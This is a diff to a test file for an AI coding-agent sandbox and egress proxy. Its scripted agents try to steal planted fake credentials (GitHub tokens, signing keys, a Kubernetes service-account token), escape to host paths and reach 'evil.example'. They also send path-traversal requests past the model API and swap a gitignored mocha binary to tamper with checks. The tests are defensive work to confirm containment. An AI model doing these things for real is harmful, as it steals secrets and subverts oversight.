@@ -170,7 +170,9 @@ describe('stages/agent-run', function () {
     expect(p.sandbox.capabilities).to.deep.equal([]);
     expect(p.sandbox.mounts).to.deep.include({ path: dir, access: 'read-write' });
     expect(p.sandbox.mounts).to.deep.include({ path: join(dir, '.git'), access: 'read-only' });
-    expect(p.sandbox.mounts).to.deep.include({ path: credentialFile, access: 'hidden' });
+    // the credential file is nowhere in the agent's view: an empty root with only what it needs
+    expect(p.sandbox.mounts[0]).to.deep.equal({ path: '/', access: 'empty-tmpfs' });
+    expect(p.sandbox.mounts.map((m) => m.path)).to.not.include(credentialFile);
     expect(p.sandbox.env).to.include.members(['PATH', 'HOME', 'HTTPS_PROXY', 'ANTHROPIC_BASE_URL']);
     expect(p.sandbox.network).to.include({ mode: 'egress-proxy', modelApi: `http://127.0.0.1:${String(modelPort)}`, credentialInjected: true });
     expect(p.sandbox.network.allowedHosts).to.deep.equal([`127.0.0.1:${String(echoPort)}`]);
@@ -192,6 +194,17 @@ describe('stages/agent-run', function () {
     expect(p.egress.log.digest.sha256).to.equal(sha256(readFileSync(join(r.reportDir, 'egress.jsonl'))));
     expect(r.transcript).to.include('remote said: pong').and.include('proxy answered 403 to CONNECT evil.example:443').and.include('pong from the model');
     expect(modelSaw.slice(before)).to.deep.equal([{ apiKey: CREDENTIAL, authorization: undefined, path: '/v1/messages' }]);
+  });
+
+  it('a call to another endpoint of the model API is refused without the credential and logged in egress.jsonl', async () => {
+    const { dir } = repo();
+    const before = modelSaw.length;
+    const r = await agentRun(dir, { agent: scripted('api:/v1/files', 'model') });
+    expect(r.code, r.stderr).to.equal(0);
+    expect(r.transcript).to.include('model API answered 403').and.include('POST /v1/files is not a model call');
+    expect(modelSaw.slice(before)).to.deep.equal([{ apiKey: CREDENTIAL, authorization: undefined, path: '/v1/messages' }]);
+    expect(r.egress.map((e) => [e.kind, e.allowed, e.status])).to.deep.equal([['model', false, 403], ['model', true, 200]]);
+    expect(r.predicate?.egress).to.include({ attempts: 2, allowed: 1, refused: 1 });
   });
 
   it('the agent cannot read the credential from its environment, the credential file or /proc, yet the model call carries it', async () => {
@@ -221,8 +234,86 @@ describe('stages/agent-run', function () {
     const r = await agentRun(dir, { agent: scripted(`steal:${credentialFile}`) });
     expect(r.code, r.stderr).to.equal(0);
     const stolen = readFileSync(join(dir, 'stolen.txt'), 'utf8');
-    expect(stolen).to.match(new RegExp(`${credentialFile}: (EACCES.*)?\n`));
+    expect(stolen).to.match(new RegExp(`${credentialFile}: (ENOENT.*)?\n`));
     expect(stolen).to.not.include(CREDENTIAL);
+  });
+
+  it("the host's home, key files elsewhere and mounted secrets do not exist for the agent; its HOME is an empty tmpfs", async () => {
+    const { dir } = repo();
+    // a user's home as a developer machine has it, outside the deny-list of credential directories
+    const home = join(visible, 'home');
+    const planted: Record<string, string> = {
+      '.config/gh/hosts.yml': 'github.com:\n  oauth_token: FAKE-GH-TOKEN-planted-by-the-test\n',
+      '.config/vouch/reviewer.key': 'FAKE-REVIEWER-KEY-planted-by-the-test\n',
+      'projects/notes.txt': 'FAKE-NOTES-planted-by-the-test\n',
+    };
+    for (const [f, text] of Object.entries(planted)) {
+      mkdirSync(dirname(join(home, f)), { recursive: true });
+      writeFileSync(join(home, f), text);
+    }
+    // a signing key beside the run, and what a pod's ServiceAccount token looks like
+    const signingKey = join(visible, 'signing.key');
+    writeFileSync(signingKey, 'FAKE-SIGNING-KEY-planted-by-the-test\n');
+    // `vouch run --no-sandbox` in the user's own checkout: the embedded log's data in its .vouch, the configured
+    // signing key inside the workspace
+    mkdirSync(join(dir, '.vouch/tlog'), { recursive: true });
+    writeFileSync(join(dir, '.vouch/tlog/log.key'), 'FAKE-LOG-KEY-planted-by-the-test\n');
+    writeFileSync(join(dir, 'signing.key'), 'FAKE-WORKSPACE-SIGNING-KEY-planted-by-the-test\n');
+    const configFile = join(visible, 'config.yaml');
+    writeFileSync(configFile, `signing:\n  key: ${join(dir, 'signing.key')}\n`);
+    const paths = [...Object.keys(planted).map((f) => join(home, f)), signingKey, '/var/run/secrets/kubernetes.io/serviceaccount/token', '/root/.bashrc', join(dir, '.vouch/tlog/log.key'), join(dir, 'signing.key')];
+    const saved = { HOME: process.env['HOME'], VOUCH_CONFIG: process.env['VOUCH_CONFIG'] };
+    process.env['HOME'] = home;
+    process.env['VOUCH_CONFIG'] = configFile;
+    let r: AgentRun;
+    try {
+      r = await agentRun(dir, { agent: scripted(`steal:${paths.join(',')}`, 'escape:/home/agent/state', 'model') });
+    } finally {
+      for (const [k, v] of Object.entries(saved)) {
+        if (v === undefined) Reflect.deleteProperty(process.env, k);
+        else process.env[k] = v;
+      }
+    }
+    expect(r.code, r.stderr).to.equal(0);
+    const stolen = readFileSync(join(dir, 'stolen.txt'), 'utf8');
+    for (const p of paths) expect(stolen, p).to.match(new RegExp(`${p}: (ENOENT|EACCES|\\n)`));
+    expect(stolen).to.not.include('planted-by-the-test');
+    expect(stolen).to.include('env HOME=/home/agent');
+    // the agent still works: its HOME is writable, node, the workspace and the proxy are there
+    const results = r.transcript.split('\n').filter((l) => l.includes('tool_result')).map((l) => JSON.parse(l) as { message: { content: { is_error: boolean }[] } });
+    expect(results.map((x) => x.message.content[0]!.is_error)).to.deep.equal([false, false, false]);
+    expect(r.predicate?.sandbox.mounts).to.deep.include({ path: '/', access: 'empty-tmpfs' });
+    expect(r.predicate?.sandbox.mounts).to.deep.include({ path: '/home/agent', access: 'private-tmpfs' });
+    expect(r.predicate?.sandbox.mounts.map((m) => m.path)).to.not.include(home);
+  });
+
+  it('an agent that changes gitignored files (a test runner replaced, a new build output) fails the stage with the paths named; untouched ignored files are fine', async () => {
+    const withIgnored = (): { dir: string; base: string } => {
+      const r = repo({ 'src/math.ts': MATH, '.gitignore': 'node_modules/\ndist/\n' });
+      mkdirSync(join(r.dir, 'node_modules/.bin'), { recursive: true });
+      writeFileSync(join(r.dir, 'node_modules/.bin/mocha'), '#!/bin/sh\nexec node ../mocha/bin/mocha.js "$@"\n');
+      writeFileSync(join(r.dir, 'node_modules/.bin/tsc'), '#!/bin/sh\n');
+      return r;
+    };
+    const { dir, base } = withIgnored();
+    const r = await agentRun(dir, { agent: scripted('write:src/greeting.ts', 'write:node_modules/.bin/mocha=true', 'write:dist/out.js') });
+    expect(r.code).to.equal(1);
+    expect(r.predicate?.outcome).to.equal('ignored-files-changed');
+    const p = r.predicate as unknown as { ignoredChanges: { count: number; paths: { path: string; change: string }[] } };
+    expect(p.ignoredChanges).to.deep.equal({ count: 2, paths: [{ path: 'dist/out.js', change: 'added' }, { path: 'node_modules/.bin/mocha', change: 'modified' }] });
+    expect(r.stdout).to.include('the agent changed 2 gitignored path(s)').and.include('node_modules/.bin/mocha (modified)').and.include('dist/out.js (added)');
+    const report = JSON.parse(readFileSync(join(r.reportDir, 'report.json'), 'utf8')) as { ignoredChanges: unknown[] };
+    expect(report.ignoredChanges).to.have.length(2);
+    expect(r.results['commit']).to.equal('');
+    expect(r.results['changed']).to.equal('false');
+    expect(git(dir, ['rev-parse', 'HEAD']).trim()).to.equal(base);
+    expect(git(dir, ['branch', '--list', 'agent/change']).trim()).to.equal('');
+    // the same change with the ignored files left alone is committed
+    const clean = withIgnored();
+    const ok = await agentRun(clean.dir, { agent: scripted('write:src/greeting.ts') });
+    expect(ok.code, ok.stderr).to.equal(0);
+    expect(ok.predicate?.outcome).to.equal('committed');
+    expect((ok.predicate as unknown as { ignoredChanges: unknown }).ignoredChanges).to.deep.equal({ count: 0, paths: [] });
   });
 
   it('a timed-out agent is killed; its partial transcript is kept, nothing is committed and the gate fails', async () => {
@@ -253,7 +344,9 @@ describe('stages/agent-run', function () {
     expect(existsSync(join(dir, '.git/hooks/post-checkout'))).to.equal(false);
     const results = r.transcript.split('\n').filter((l) => l.includes('tool_result')).map((l) => JSON.parse(l) as { message: { content: { is_error: boolean; content: string }[] } });
     expect(results.map((x) => x.message.content[0]!.is_error)).to.deep.equal([true, true, true, false]);
-    for (const x of results.slice(0, 3)) expect(x.message.content[0]!.content).to.match(/EROFS|read-only/);
+    // outside the workspace the host path does not even exist; .git and .vouch are read-only
+    expect(results[0]!.message.content[0]!.content).to.match(/ENOENT/);
+    for (const x of results.slice(1, 3)) expect(x.message.content[0]!.content).to.match(/EROFS|read-only/);
     expect(git(dir, ['show', '--format=', '--name-only', 'HEAD']).trim()).to.equal('ok.txt');
   });
 
@@ -476,14 +569,42 @@ describe('stages/agent-run: the egress proxy on its unix socket', () => {
         expect(JSON.stringify(seen[0]?.headers)).to.not.include('agent-chosen');
         expect(seen[0]?.headers['anthropic-version']).to.equal('2023-06-01');
         expect(proxy.entries[0]).to.include({ kind: 'model', host: '127.0.0.1', port, allowed: true, status: 200, bytesIn: 16 });
-        // a protocol-relative target stays on the model API: the key never goes to another host
-        seen.length = 0;
-        expect((await send(socketPath, '//evil.example/steal')).status).to.equal(200);
-        expect(seen[0]?.url).to.equal('//evil.example/steal');
-        expect(proxy.entries[1]).to.include({ kind: 'model', host: '127.0.0.1', port });
+        // count_tokens is the other call Claude Code makes
+        expect((await send(socketPath, '/v1/messages/count_tokens?beta=true', {}, 'POST')).status).to.equal(200);
+        expect(seen[1]?.headers[header]).to.equal(expected);
       } finally {
         await proxy.close();
       }
+    }
+  });
+
+  it('the credential goes only with POST /v1/messages and /v1/messages/count_tokens: other methods and paths of the model API are refused and logged', async () => {
+    const socketPath = join(tmp(), 'paths.sock');
+    const proxy = new EgressProxy({ socketPath, allow: [], model: { url: new URL(`http://127.0.0.1:${String(port)}`), header: 'x-api-key', credential: CREDENTIAL } });
+    await proxy.listen();
+    try {
+      seen.length = 0;
+      const refused: [string, string][] = [
+        ['GET', '/v1/files'],
+        ['POST', '/v1/files'],
+        ['POST', '/v1/messages/batches'],
+        ['GET', '/v1/messages'],
+        ['POST', '/v1/messages/../files'],
+        ['POST', '/v1/messages/%2e%2e/files'],
+        ['POST', '/v1/messages/'],
+        ['POST', '//evil.example/v1/messages'],
+      ];
+      for (const [method, path] of refused) {
+        const r = await send(socketPath, path, { 'x-api-key': 'agent-chosen' }, method);
+        expect(r.status, `${method} ${path}`).to.equal(403);
+        expect(r.body).to.include('is not a model call');
+      }
+      // nothing reached the API, so the credential was never sent
+      expect(seen).to.deep.equal([]);
+      expect(proxy.entries.map((e) => [e.kind, e.allowed, e.status])).to.deep.equal(refused.map(() => ['model', false, 403]));
+      expect(proxy.entries[0]).to.include({ host: '127.0.0.1', port, reason: 'GET /v1/files is not a model call (only POST /v1/messages, POST /v1/messages/count_tokens)' });
+    } finally {
+      await proxy.close();
     }
   });
 
